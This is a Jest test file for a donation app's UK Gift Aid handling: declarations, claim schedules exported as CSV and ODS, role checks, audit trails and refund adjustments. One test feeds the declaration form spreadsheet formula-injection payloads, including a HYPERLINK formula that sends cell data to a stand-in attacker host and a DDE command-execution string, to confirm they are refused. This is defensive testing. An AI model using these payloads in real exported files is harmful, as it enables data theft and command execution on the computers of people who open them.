import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync } from 'node:fs';
import { addBooks, agree, approve, CAPTURE_BOOK_ORDER, CREATE_BOOK_ORDER, downloadSchedule, eventually, ok, runCycle } from './support/commerce.js';
import { startTestApp, TestApp } from './support/test-app.js';

type Member = Awaited<ReturnType<TestApp['member']>>;

const DECLARE = `mutation($scope: GiftAidDeclarationScope!, $title: String, $firstName: String!, $lastName: String!, $houseNameOrNumber: String!,
  $postcode: String, $livesAbroad: Boolean, $effectiveFrom: String) {
  createGiftAidDeclaration(scope: $scope, title: $title, firstName: $firstName, lastName: $lastName, houseNameOrNumber: $houseNameOrNumber,
    postcode: $postcode, livesAbroad: $livesAbroad, effectiveFrom: $effectiveFrom) {
    id userId version previousId scope title firstName lastName houseNameOrNumber postcode livesAbroad wordingVersion wording effectiveFrom createdAt cancelledAt supersededAt } }`;
const MINE = '{ myGiftAidDeclarations { id version postcode houseNameOrNumber cancelledAt supersededAt } }';
const CANCEL = 'mutation($id: ID!) { cancelGiftAidDeclaration(id: $id) { id cancelledAt } }';
const FORM = `query($scope: GiftAidDeclarationScope!, $amount: Float, $currency: String) {
  giftAidDeclarationForm(scope: $scope, amount: $amount, currency: $currency) { wordingVersion wording notice title firstName lastName houseNameOrNumber postcode livesAbroad } }`;
const GIVE = `mutation($amount: Float!, $currency: String!, $giftAid: Boolean) {
  createDonation(amount: $amount, currency: $currency, giftAid: $giftAid) { id orderID approveUrl } }`;
const CAPTURE = 'mutation($orderID: String!) { captureDonation(orderID: $orderID) { status donation { id } } }';
const DONATION = 'query($id: ID!) { Donation(id: $id) { id status currency amount sterlingAmount exchangeRate giftAid giftAidStatus giftAidReason giftAidClaimId } }';
const LIST = 'query($filter: DonationFilter) { allDonations(filter: $filter, perPage: 100) { id giftAidStatus } _allDonationsMeta(filter: $filter) { count } }';
const ROWS = 'title firstName lastName houseNameOrNumber postcode aggregatedDonations sponsoredEvent donationDate amount';
const PREVIEW = `query($from: String!, $to: String!, $aggregate: Boolean) { giftAidClaimPreview(from: $from, to: $to, aggregate: $aggregate) {
  from to aggregated donationCount donationsTotal taxToReclaim adjustment adjustmentNote rows { ${ROWS} } adjustments { donationId claimId amount tax } waitingAdjustments { donationId claimId amount tax } } }`;
const CLAIM = `mutation($from: String!, $to: String!) { createGiftAidClaim(from: $from, to: $to) {
  id status from to aggregated rowCount donationsTotal taxToReclaim adjustment adjustmentNote keepUntil scheduleFiles rows { ${ROWS} } } }`;
const STATEMENTS = '{ myGivingStatements { taxYear label from to totals { currency amount } donations { id amount giftAidStatus } } }';

const code = (response: { errors?: any[] }) => response.errors?.[0]?.extensions?.code;

describe('Gift Aid: declarations, status, claims and the schedule', () => {
  let t: TestApp;
  let admin: string;
  let finance: Member;
  let john: Member;
  let max: Member;
  let mary: Member;
  let dora: Member;
  const gifts: Record<string, string> = {};

  async function give(member: Member, amount: number, currency = 'GBP', giftAid?: boolean): Promise<string> {
    const checkout = (await ok(t, GIVE, { amount, currency, giftAid }, member.token)).createDonation;
    await approve(t, checkout.approveUrl);
    expect((await ok(t, CAPTURE, { orderID: checkout.orderID }, member.token)).captureDonation.status).toBe('COMPLETED');
    return checkout.id;
  }

  const donation = async (id: string) => (await ok(t, DONATION, { id }, admin)).Donation;
  /** Dates a gift as if paid at noon in London on `day`. */
  const paidOn = (id: string, day: string) => t.db.query(`UPDATE donations SET paid_at = ($1::date + time '12:00') AT TIME ZONE 'Europe/London' WHERE id = $2`, [day, id]);
  const asRole = async (role: string) => {
    const account = await t.member();
    await t.db.query('UPDATE users SET role = $1 WHERE id = $2', [role, account.id]);
    return account;
  };

  beforeAll(async () => {
    t = await startTestApp();
    admin = await t.adminToken();
    [john, max, mary, dora] = [await t.member(), await t.member(), await t.member(), await t.member()];
    finance = await asRole('Finance');
  });
  afterAll(() => t.close());

  it("offers HMRC's model wording and the donor's profile details, never PayPal's", async () => {
    const form = (await ok(t, FORM, { scope: 'ThisDonation', amount: 10, currency: 'GBP' }, john.token)).giftAidDeclarationForm;
    expect(form.wording).toMatch(/^I want to Gift Aid my donation of £10\.00 to .+\. I am a UK taxpayer and understand that if I pay less Income Tax and\/or Capital Gains Tax in the current tax year than the amount of Gift Aid claimed on all my donations it is my responsibility to pay any difference\. I am giving my own money, not a company's, a group's or someone else's\.$/);
    expect(form.notice).toMatch(/cancel this declaration, change your name or home address/);
    // The test members' profile address is "1 Church Street": its house number is offered, the postcode is asked for.
    expect(form).toMatchObject({ title: 'Brother', firstName: 'John', lastName: 'Doe', houseNameOrNumber: '1', postcode: null, livesAbroad: false });
  });

  it('stores an enduring declaration with its wording and a normalised postcode, up to four years back', async () => {
    const declared = (
      await ok(t, DECLARE, { scope: 'Enduring', title: 'Mr', firstName: 'John', lastName: 'Smith-Jones', houseNameOrNumber: '12', postcode: 'sw1a1aa' }, john.token)
    ).createGiftAidDeclaration;
    expect(declared).toMatchObject({ userId: String(john.id), version: 1, scope: 'Enduring', postcode: 'SW1A 1AA', wordingVersion: 'hmrc-model-2026', cancelledAt: null });
    expect(declared.wording).toMatch(/^I want to Gift Aid any donations I make in the future or have made in the past 4 years to /);
    const [row] = await t.db.query(`SELECT effective_from::text AS day, (now() AT TIME ZONE 'Europe/London')::date - interval '4 years' AS four FROM gift_aid_declarations WHERE id = $1`, [declared.id]);
    expect(row.day).toBe(new Date(row.four.getTime() - row.four.getTimezoneOffset() * 60_000).toISOString().slice(0, 10));

    const tooOld = await t.gql(DECLARE, { scope: 'Enduring', firstName: 'A', lastName: 'B', houseNameOrNumber: '1', postcode: 'M1 1AE', effectiveFrom: '2010-01-01' }, dora.token);
    expect(code(tooOld)).toBe('BAD_USER_INPUT');
    expect(tooOld.errors[0].extensions.field).toBe('effectiveFrom');
    const badPostcode = await t.gql(DECLARE, { scope: 'Enduring', firstName: 'A', lastName: 'B', houseNameOrNumber: '1', postcode: 'NOT A CODE' }, dora.token);
    expect(badPostcode.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'postcode' });
    const [{ count }] = await t.db.query('SELECT count(*)::int FROM gift_aid_declarations WHERE user_id = $1', [dora.id]);
    expect(count).toBe(0);
  });

  it("refuses a name or address outside HMRC's characters, naming the field, and stores nothing", async () => {
    const declare = (fields: Record<string, string>) =>
      t.gql(DECLARE, { scope: 'Enduring', title: 'Mrs', firstName: 'Ada', lastName: 'Lovelace', houseNameOrNumber: '12', postcode: 'M1 1AE', ...fields }, dora.token);
    const hostile: [string, string][] = [
      ['firstName', '=HYPERLINK("//ev.il/"&D2,"x")'],
      ['lastName', "+cmd|' /C calc'!A0"],
      ['houseNameOrNumber', '@SUM(1+1)'],
      ['houseNameOrNumber', '-2+3'],
      ['title', '=1'],
      ['firstName', 'Ada\tLee'],
      ['lastName', 'Love\r\nlace'],
    ];
    for (const [field, value] of hostile) {
      const refused = await declare({ [field]: value });
      expect({ value, extensions: refused.errors?.[0]?.extensions }).toEqual({ value, extensions: expect.objectContaining({ code: 'BAD_USER_INPUT', field }) });
      expect(refused.errors[0].message).toMatch(new RegExp(`^${field} `));
    }
    const [{ count }] = await t.db.query('SELECT count(*)::int FROM gift_aid_declarations WHERE user_id = $1', [dora.id]);
    expect(count).toBe(0);

    const accented = { scope: 'ThisDonation', title: 'Dr.', firstName: 'Zoë', lastName: 'Ó Súilleabháin', houseNameOrNumber: 'Flat 2/3, St. Mary’s (rear)', postcode: 'M1 1AE' };
    expect((await ok(t, DECLARE, accented, (await t.member()).token)).createGiftAidDeclaration).toMatchObject({ firstName: 'Zoë', lastName: 'Ó Súilleabháin' });
  });

  it('refuses Gift Aid on a gift no declaration covers', async () => {
    const refused = await t.gql(GIVE, { amount: 5, currency: 'GBP', giftAid: true }, dora.token);
    expect(refused.errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'giftAid' });
    const [{ count }] = await t.db.query('SELECT count(*)::int FROM donations WHERE user_id = $1', [dora.id]);
    expect(count).toBe(0);
  });

  it('makes a £10 gift under the declaration Eligible', async () => {
    gifts.john = await give(john, 10, 'GBP', true);
    expect(await donation(gifts.john)).toMatchObject({ status: 'Paid', giftAid: true, giftAidStatus: 'Eligible', giftAidReason: null });
    await paidOn(gifts.john, '2026-04-05');
  });

  it("claims a USD gift in the sterling amount PayPal reports, or waits for Finance's", async () => {
    await ok(t, DECLARE, { scope: 'Enduring', title: 'Brother', firstName: 'Maximilian', lastName: 'Featherstonehaugh-Wolfe', houseNameOrNumber: '4 Rue de Rivoli, Paris', livesAbroad: true }, max.token);
    gifts.max = await give(max, 20, 'USD');
    expect(await donation(gifts.max)).toMatchObject({ currency: 'USD', amount: 20, sterlingAmount: 15.7, exchangeRate: '0.7850', giftAid: null, giftAidStatus: 'Eligible' });
    await paidOn(gifts.max, '2026-04-10');

    const unknown = await give(max, 30, 'USD');
    await t.db.query('UPDATE donations SET sterling_amount_minor = NULL, exchange_rate = NULL WHERE id = $1', [unknown]);
    expect(await donation(unknown)).toMatchObject({ sterlingAmount: null, giftAidStatus: 'Ineligible', giftAidReason: expect.stringMatching(/^Not GBP/) });
    const SET = 'mutation($id: ID!, $amount: Float!) { setDonationSterlingAmount(id: $id, amount: $amount) { sterlingAmount exchangeRate giftAidStatus } }';
    expect(code(await t.gql(SET, { id: unknown, amount: 23.1 }, max.token))).toBe('FORBIDDEN');
    expect((await ok(t, SET, { id: unknown, amount: 23.1 }, finance.token)).setDonationSterlingAmount).toEqual({ sterlingAmount: 23.1, exchangeRate: null, giftAidStatus: 'Eligible' });
    await paidOn(unknown, '2026-03-01');
  });

  it('never puts a book order in a claim, and keeps the address a gift was made at when the donor moves', async () => {
    await ok(t, DECLARE, { scope: 'Enduring', title: 'Rev', firstName: 'Mary', lastName: "O'Neil", houseNameOrNumber: 'Rose Cottage', postcode: 'm1 1ae' }, mary.token);
    gifts.mary = await give(mary, 25.5);
    await paidOn(gifts.mary, '2026-04-20');
    const [book] = await addBooks(t, [{ title: 'Psalms', pricePence: 1200 }]);
    const order = (await ok(t, CREATE_BOOK_ORDER, { items: [{ bookId: String(book), quantity: 1 }] }, mary.token)).createBookOrder;
    await approve(t, order.approveUrl);
    expect((await ok(t, CAPTURE_BOOK_ORDER, { orderID: order.orderID }, mary.token)).captureBookOrder.status).toBe('COMPLETED');
    await t.db.query(`UPDATE book_orders SET paid_at = '2026-04-21T12:00:00Z' WHERE id = $1`, [order.id]);

    const moved = (await ok(t, DECLARE, { scope: 'Enduring', title: 'Mr', firstName: 'John', lastName: 'Smith-Jones', houseNameOrNumber: '14', postcode: 'SW1A 2AA' }, john.token)).createGiftAidDeclaration;
    expect(moved).toMatchObject({ version: 2, previousId: expect.any(String), postcode: 'SW1A 2AA' });
    const mine = (await ok(t, MINE, {}, john.token)).myGiftAidDeclarations;
    expect(mine.map((declaration: any) => [declaration.version, declaration.houseNameOrNumber, declaration.supersededAt === null])).toEqual([
      [2, '14', true],
      [1, '12', false],
    ]);
  });

  it('excludes gifts made after a declaration is cancelled, and lets only its donor cancel it', async () => {
    const declared = (await ok(t, DECLARE, { scope: 'Enduring', firstName: 'Dora', lastName: 'Day', houseNameOrNumber: '3', postcode: 'M1 1AE' }, dora.token)).createGiftAidDeclaration;
    expect(code(await t.gql(CANCEL, { id: declared.id }, john.token))).toBe('NOT_FOUND');
    expect((await ok(t, MINE, {}, john.token)).myGiftAidDeclarations.map((declaration: any) => declaration.id)).not.toContain(declared.id);
    expect((await ok(t, CANCEL, { id: declared.id }, dora.token)).cancelGiftAidDeclaration.cancelledAt).not.toBeNull();
    expect(code(await t.gql(GIVE, { amount: 5, currency: 'GBP', giftAid: true }, dora.token))).toBe('BAD_USER_INPUT');
    gifts.dora = await give(dora, 5);
    expect(await donation(gifts.dora)).toMatchObject({ giftAidStatus: 'Ineligible', giftAidReason: 'Declaration cancelled before this gift' });

    const filtered = (await ok(t, LIST, { filter: { giftAidStatus: 'Ineligible' } }, finance.token));
    expect(filtered.allDonations.map((gift: any) => gift.id)).toEqual([gifts.dora]);
    expect(filtered._allDonationsMeta.count).toBe(1);
  });

  it('refuses claims and the schedule to Editor, Pastor, PrayerTeam and members', async () => {
    const refused = [john, await asRole('Editor'), await asRole('Pastor'), await asRole('PrayerTeam')];
    for (const account of refused) {
      expect(code(await t.gql(PREVIEW, { from: '2026-04-01', to: '2026-04-30' }, account.token))).toBe('FORBIDDEN');
      expect(code(await t.gql(CLAIM, { from: '2026-04-01', to: '2026-04-30' }, account.token))).toBe('FORBIDDEN');
      expect(code(await t.gql('{ allGiftAidClaims { id } }', {}, account.token))).toBe('FORBIDDEN');
      await t.http.get('/api/gift-aid/claims/1/schedule.csv').set('authorization', `Bearer ${account.token}`).expect(403);
      await t.http.get('/api/gift-aid/claims/1/schedule.ods').set('authorization', `Bearer ${account.token}`).expect(403);
    }
    const [{ count }] = await t.db.query('SELECT count(*)::int FROM gift_aid_claims');
    expect(count).toBe(0);
  });

  it('adds small gifts together only when Finance asks', async () => {
    const plain = (await ok(t, PREVIEW, { from: '2026-04-01', to: '2026-04-30' }, finance.token)).giftAidClaimPreview;
    expect(plain.rows.every((row: any) => row.aggregatedDonations === '')).toBe(true);
    const aggregated = (await ok(t, PREVIEW, { from: '2026-04-01', to: '2026-04-30', aggregate: true }, finance.token)).giftAidClaimPreview;
    // The two small gifts fall in different tax years, each alone in its period: a row of one gift aggregates nothing,
    // so each is written as its donor's own (rows of several donors: gift-aid-claims.test.ts).
    expect(aggregated.rows).toEqual(plain.rows);
    expect(aggregated.rows.map((row: any) => [row.firstName, row.donationDate, row.amount])).toEqual([
      ['John', '05/04/26', '10.00'],
      ['Maximilian', '10/04/26', '15.70'],
      ['Mary', expect.any(String), '25.50'],
    ]);
  });

  it("creates a claim over three eligible gifts whose CSV is HMRC's schedule byte for byte, once", async () => {
    const preview = (await ok(t, PREVIEW, { from: '2026-04-01', to: '2026-04-30' }, finance.token)).giftAidClaimPreview;
    expect(preview).toMatchObject({ donationCount: 3, donationsTotal: 51.2, taxToReclaim: 12.8, adjustments: [], adjustment: 0 });

    const claim = (await ok(t, CLAIM, { from: '2026-04-01', to: '2026-04-30' }, finance.token)).createGiftAidClaim;
    expect(claim).toMatchObject({ status: 'Draft', rowCount: 3, donationsTotal: 51.2, taxToReclaim: 12.8, keepUntil: '2033-04-05', scheduleFiles: [`/api/gift-aid/claims/${claim.id}/schedule.csv`] });
    expect(claim.rows).toEqual(preview.rows);
    for (const id of [gifts.john, gifts.max, gifts.mary]) expect(await donation(id)).toMatchObject({ giftAidStatus: 'Claimed', giftAidClaimId: claim.id });
    expect((await donation(gifts.dora)).giftAidClaimId).toBeNull();

    const again = await t.gql(CLAIM, { from: '2026-04-01', to: '2026-04-30' }, admin);
    expect(code(again)).toBe('CONFLICT');
    const [{ count }] = await t.db.query('SELECT count(*)::int FROM gift_aid_claims');
    expect(count).toBe(1);

    const download = (format: string) => downloadSchedule(t, claim.id, format, finance.token);
    const csv = await download('csv');
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="gift-aid-claim-${claim.id}.csv"`);
    expect((csv.body as Buffer).equals(readFileSync(new URL('./fixtures/gift-aid-schedule-april-2026.csv', import.meta.url)))).toBe(true);
    expect((csv.body as Buffer).toString()).toContain(',05/04/26,10.00\r\n');
    expect(((await download('csv')).body as Buffer).equals(csv.body)).toBe(true);

    const ods = await download('ods');
    expect(ods.headers['content-type']).toBe('application/vnd.oasis.opendocument.spreadsheet');
    expect((ods.body as Buffer).subarray(0, 2).toString()).toBe('PK');
    expect(((await download('ods')).body as Buffer).equals(ods.body)).toBe(true);
    const downloads = await t.db.query(`SELECT actor_id, detail FROM audit_events WHERE action = 'export.csv' AND record_kind = 'GiftAidClaim' AND $1 = ANY(record_ids) ORDER BY id`, [String(claim.id)]);
    expect(downloads).toEqual([...Array(2).fill({ actor_id: finance.id, detail: 'schedule.csv' }), ...Array(2).fill({ actor_id: finance.id, detail: 'schedule.ods' })]);

    // The claim outlives later changes to the donor's details.
    await t.db.query(`UPDATE gift_aid_declarations SET first_name = 'Changed' WHERE user_id = $1`, [mary.id]);
    expect(((await download('csv')).body as Buffer).equals(csv.body)).toBe(true);
  });

  it("records each read of a claim's rows, which name donors and their addresses, on the audit trail", async () => {
    const [claim] = await t.db.query('SELECT id, row_count FROM gift_aid_claims ORDER BY id LIMIT 1');
    const read = await ok(t, 'query($id: ID!) { GiftAidClaim(id: $id) { rows { firstName postcode } } }', { id: String(claim.id) }, finance.token);
    expect(read.GiftAidClaim.rows).toHaveLength(claim.row_count);
    const [event] = await t.db.query(`SELECT action, record_kind, record_ids, detail FROM audit_events WHERE actor_id = $1 ORDER BY id DESC LIMIT 1`, [finance.id]);
    expect(event).toEqual({ action: 'gift-aid.read', record_kind: 'GiftAidClaim', record_ids: [String(claim.id)], detail: `${claim.row_count} schedule row(s)` });
  });

  it('records each preview of a claim, whose rows name donors too, with its period and never a name', async () => {
    const preview = (await ok(t, PREVIEW, { from: '2026-04-01', to: '2026-04-30' }, finance.token)).giftAidClaimPreview;
    const [event] = await t.db.query(`SELECT action, record_kind, record_ids, detail FROM audit_events WHERE actor_id = $1 ORDER BY id DESC LIMIT 1`, [finance.id]);
    expect(event).toEqual({ action: 'gift-aid.preview', record_kind: null, record_ids: [], detail: `2026-04-01 to 2026-04-30: ${preview.rows.length} schedule row(s)` });
  });

  it('shows a claimed gift refunded later as NeedsAdjustment and lists it on the next claim', async () => {
    await ok(t, 'mutation($id: ID!) { refundDonation(id: $id) { status } }', { id: gifts.mary }, finance.token);
    expect(await donation(gifts.mary)).toMatchObject({ status: 'Refunded', giftAidStatus: 'NeedsAdjustment' });

    const [{ id: aprilClaim }] = await t.db.query('SELECT id FROM gift_aid_claims');
    // Box 2 may not exceed the tax a claim asks for ("can't be used to generate a credit"): with no gifts to claim in
    // May, the refund waits, and a claim of it alone is refused.
    const empty = (await ok(t, PREVIEW, { from: '2026-05-01', to: '2026-05-31' }, finance.token)).giftAidClaimPreview;
    expect(empty).toMatchObject({ donationCount: 0, rows: [], adjustment: 0, adjustments: [], waitingAdjustments: [{ donationId: gifts.mary, claimId: String(aprilClaim), amount: 25.5, tax: 6.38 }] });
    expect((await t.gql(CLAIM, { from: '2026-05-01', to: '2026-05-31' }, admin)).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'from' });

    // A £20 gift in May asks for £5 of tax: still too little for £6.38. A £30 one makes £12.50: it fits.
    const ruth = await t.member();
    await ok(t, DECLARE, { scope: 'Enduring', firstName: 'Ruth', lastName: 'Giver', houseNameOrNumber: '3', postcode: 'M1 1AE' }, ruth.token);
    await paidOn(await give(ruth, 20), '2026-05-10');
    expect((await ok(t, PREVIEW, { from: '2026-05-01', to: '2026-05-31' }, finance.token)).giftAidClaimPreview).toMatchObject({ adjustment: 0, taxToReclaim: 5 });
    await paidOn(await give(ruth, 30), '2026-05-11');
    const next = (await ok(t, PREVIEW, { from: '2026-05-01', to: '2026-05-31' }, finance.token)).giftAidClaimPreview;
    expect(next).toMatchObject({ donationCount: 2, taxToReclaim: 12.5, adjustment: 6.38, adjustments: [{ donationId: gifts.mary, claimId: String(aprilClaim), amount: 25.5, tax: 6.38 }], waitingAdjustments: [] });
    expect(next.adjustmentNote).toBe(`Gift Aid over-claimed on 1 refunded donation from claim ${aprilClaim}`);
    expect(next.adjustmentNote.length).toBeLessThanOrEqual(100);

    const may = (await ok(t, CLAIM, { from: '2026-05-01', to: '2026-05-31' }, admin)).createGiftAidClaim;
    expect(may).toMatchObject({ rowCount: 2, adjustment: 6.38, adjustmentNote: next.adjustmentNote });
    expect(await donation(gifts.mary)).toMatchObject({ giftAidStatus: 'Ineligible', giftAidReason: expect.stringMatching(/declared on a later claim/) });
  });

  it('answers a claim its one file, even asked for a part as when a claim could be several files', async () => {
    const [claim] = await t.db.query('SELECT id FROM gift_aid_claims ORDER BY id LIMIT 1');
    const auth = { authorization: `Bearer ${finance.token}` };
    const whole = await t.http.get(`/api/gift-aid/claims/${claim.id}/schedule.csv`).set(auth).expect(200);
    const part = await t.http.get(`/api/gift-aid/claims/${claim.id}/schedule.csv?part=1`).set(auth).expect(200);
    expect(part.text).toBe(whole.text);
    expect(part.headers['content-disposition']).toBe(`attachment; filename="gift-aid-claim-${claim.id}.csv"`);
  });

  it("gives each member their own giving statement by tax year, with each gift's Gift Aid status", async () => {
    const statements = (await ok(t, STATEMENTS, {}, john.token)).myGivingStatements;
    expect(statements).toEqual([{ taxYear: 2025, label: '2025-26', from: '2025-04-06', to: '2026-04-05', totals: [{ currency: 'GBP', amount: 10 }], donations: [{ id: gifts.john, amount: 10, giftAidStatus: 'Claimed' }] }]);
    const maxs = (await ok(t, STATEMENTS, {}, max.token)).myGivingStatements;
    expect(maxs.flatMap((statement: any) => statement.donations.map((gift: any) => gift.id))).not.toContain(gifts.john);
    expect(maxs.map((statement: any) => statement.label)).toEqual(['2026-27', '2025-26']);
  });

  it('takes giftAid on the legacy donation-create-order', async () => {
    const response = await t.http.post('/api/donation-create-order').set('authorization', `Bearer ${max.token}`).send({ amount: 7, currency: 'GBP', giftAid: true }).expect(200);
    const [row] = await t.db.query('SELECT gift_aid, gift_aid_declaration_id FROM donations WHERE id = $1', [response.body.recordId]);
    expect(row.gift_aid).toBe(true);
    expect(row.gift_aid_declaration_id).not.toBeNull();
    const refused = await t.http.post('/api/donation-create-order').set('authorization', `Bearer ${dora.token}`).send({ amount: 7, currency: 'GBP', giftAid: true }).expect(400);
    expect(refused.body.errors[0].path).toBe('giftAid');
  });

  it("checks each payment of a monthly gift with Gift Aid against the donor's enduring declaration", async () => {
    const MONTHLY = `mutation($amount: Float!, $currency: String!, $giftAid: Boolean) {
      createRegularDonation(amount: $amount, currency: $currency, giftAid: $giftAid) { id subscriptionID approveUrl } }`;
    expect((await t.gql(MONTHLY, { amount: 8, currency: 'GBP', giftAid: true }, dora.token)).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'giftAid' });
    const gift = (await ok(t, MONTHLY, { amount: 8, currency: 'GBP', giftAid: true }, john.token)).createRegularDonation;
    await agree(t, gift.approveUrl);
    await runCycle(t, gift.subscriptionID);
    const [payment] = await eventually(async () => {
      const rows = await t.db.query('SELECT id, gift_aid FROM donations WHERE regular_donation_id = $1', [gift.id]);
      return rows.length ? rows : undefined;
    });
    expect(payment.gift_aid).toBe(true);
    expect(await donation(String(payment.id))).toMatchObject({ giftAid: true, giftAidStatus: 'Eligible' });
  });

  it("leaves out gifts older than HMRC's four-year claim window", async () => {
    const old = await give(max, 12);
    await paidOn(old, '2016-06-01');
    expect((await donation(old)).giftAidStatus).toBe('NotDeclared');
    await t.db.query(`UPDATE gift_aid_declarations SET effective_from = '2015-01-01' WHERE user_id = $1`, [max.id]);
    expect(await donation(old)).toMatchObject({ giftAidStatus: 'Ineligible', giftAidReason: "Older than HMRC's four-year claim window" });
  });
});
